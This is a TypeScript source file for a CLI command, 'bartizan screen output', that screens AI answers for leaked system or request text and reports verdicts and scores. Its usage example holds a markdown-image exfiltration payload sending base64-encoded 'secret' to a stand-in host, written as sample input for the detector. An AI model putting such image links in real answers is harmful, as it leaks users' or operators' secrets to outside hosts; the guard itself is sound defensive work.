// `bartizan screen output`: the guard on answers over recorded texts. With `system` it knows what must not be said again,
// with `request` what the client itself said.
import type { Command } from "commander";
import { z } from "zod";
import { verdictOf } from "../../../guards/finding.ts";
import { compileOutputGuard, guardText, outputRulesFor } from "../../../guards/output/index.ts";
import { outputGuardOptions } from "../../../policy/guard-options.ts";
import { type Judged, lineId, screenCommand } from "./screen-command.ts";

const NOTHING: Judged = { blocked: false, score: 0, reasons: [] };

export function screenOutput(): Command {
  return screenCommand({
    name: "output",
    description: "Judge answers: NDJSON {id, text, system?, request?} in, {id, verdict, …} out.",
    line: z.object({
      id: lineId,
      text: z.string(),
      system: z.string().optional(),
      request: z.string().optional(),
    }),
    shape: '{"id","text","system"?,"request"?}',
    explain: "offsets, views and scores of each finding",
    example: 'echo \'{"id":"1","text":"see ![x](https://e.example/?d=c2VjcmV0)"}\' | npx bartizan screen output',
    compile: (policy) => {
      const guard = compileOutputGuard(outputGuardOptions(policy));
      return ({ text, system, request }) => {
        const rules = outputRulesFor({ system: listOf(system), others: listOf(request) }, guard);
        if (rules === null) return NOTHING;
        const { cut, findings } = guardText(text, rules);
        const reasons = findings.map((found) => ({ ...verdictOf(found, found.action, "text"), where: "text" }));
        const score = Math.max(cut ? 1 : 0, ...findings.map((found) => found.score));
        return { blocked: cut, score, reasons };
      };
    },
  });
}

function listOf(text: string | undefined): readonly string[] {
  return text === undefined ? [] : [text];
}
